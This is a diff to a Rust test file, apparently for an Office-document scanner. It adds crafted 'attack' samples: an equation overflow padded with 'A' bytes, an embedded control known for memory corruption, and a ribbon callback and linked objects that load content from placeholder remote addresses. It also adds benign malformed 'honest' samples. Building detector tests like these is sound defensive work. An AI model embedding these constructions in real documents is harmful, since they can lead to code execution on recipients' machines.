@@ -53,6 +53,17 @@ fn attacks() -> Vec<Sample> {
             },
         },
         Sample {
+            id: "fo6f",
+            file_name: "報告書.doc",
+            about: "an equation whose font name is longer than the editor's buffer",
+            make: || {
+                let mut equation = equation();
+                equation.truncate(38);
+                equation.extend([b'A'; 60]);
+                word().class("ObjectPool/_1", EQUATION).stream("ObjectPool/_1/Equation Native", equation).build()
+            },
+        },
+        Sample {
             id: "fo7",
             file_name: "領収書.docx",
             about: "a packed program labelled as a PDF",
@@ -75,6 +86,19 @@ fn attacks() -> Vec<Sample> {
             },
         },
         Sample {
+            id: "fo8t",
+            file_name: "管理表.xls",
+            about: "a tree control of the libraries known for memory corruption",
+            make: || {
+                Cfb::new()
+                    .class("", EXCEL)
+                    .stream("Workbook", Workbook::new().sheet("管理表", 0, 0).build())
+                    .class("MBD00000001", "C74190B6-8589-11D1-B16A-00C0F0283628")
+                    .stream("MBD00000001/Contents", vec![0; 80])
+                    .build()
+            },
+        },
+        Sample {
             id: "fo9",
             file_name: "申請書.docx",
             about: "asks to install an add-in from a web server",
@@ -86,6 +110,48 @@ fn attacks() -> Vec<Sample> {
                         custom("_AssemblyLocation", "https://example.com/a.vsto|x"),
                     )
                     .internal("", "custom-properties", "docProps/custom.xml")
+                    .build()
+            },
+        },
+        Sample {
+            id: "fo9u",
+            file_name: "申請書.docx",
+            about: "a ribbon whose callback is in another file",
+            make: || {
+                Package::docx("申請書")
+                    .part(
+                        "customUI/customUI.xml",
+                        "",
+                        "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" \
+                         onLoad=\"https://example.com/a.xlsm!Start\"/>",
+                    )
+                    .relation(
+                        "",
+                        "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
+                        "customUI/customUI.xml",
+                        false,
+                    )
+                    .build()
+            },
+        },
+        Sample {
+            id: "fo10r",
+            file_name: "資料.docx",
+            about: "an object from a numeric address",
+            make: || object("http://192.0.2.20/a.docx"),
+        },
+        Sample {
+            id: "fo10l",
+            file_name: "報告書.doc",
+            about: "a linked object whose moniker is a web address",
+            make: || {
+                let moniker =
+                    [0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B];
+                let address: Vec<u8> = "http://192.0.2.20/a.doc\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
+                let size = (address.len() as u32).to_le_bytes();
+                word()
+                    .class("ObjectPool/_1", "00000300-0000-0000-C000-000000000046")
+                    .stream("ObjectPool/_1/\u{1}Ole", [&[1, 0, 0, 2][..], &[0; 16], &moniker, &size, &address].concat())
                     .build()
             },
         },
@@ -147,6 +213,38 @@ fn honest() -> Vec<Sample> {
             file_name: "操作手順.docx",
             about: "an IT manual that quotes commands and the words of lures",
             make: manual,
+        },
+        Sample {
+            id: "bo5",
+            file_name: "報告書.doc",
+            about: "a document whose text is cut off by a broken chain",
+            make: || {
+                let mut bytes = word().build();
+                let fat = 512 + usize::from(bytes[76]) * 512;
+                // A sector of the text leads nowhere.
+                bytes[fat + 36..fat + 40].copy_from_slice(&[0xEE, 0xEE, 0xEE, 0]);
+                bytes
+            },
+        },
+        Sample {
+            id: "bo6",
+            file_name: "議事録.docx",
+            about: "a document with a list of relationships that breaks off",
+            make: || {
+                Package::docx("議事録")
+                    .part("word/_rels/footer1.xml.rels", "", "<Relationships><Relationship Id=\"")
+                    .build()
+            },
+        },
+        Sample {
+            id: "bo7",
+            file_name: "報告書.docx",
+            about: "a text file packed into a report",
+            make: || {
+                let stream = packaged("メモ.txt", r"C:\Users\taro\メモ.txt", "打合せのメモ".as_bytes());
+                let object = Cfb::new().class("", PACKAGE).stream("\u{1}Ole10Native", stream).build();
+                Package::docx("報告書").ole_object(1, object).build()
+            },
         },
         Sample {
             id: "bo1",
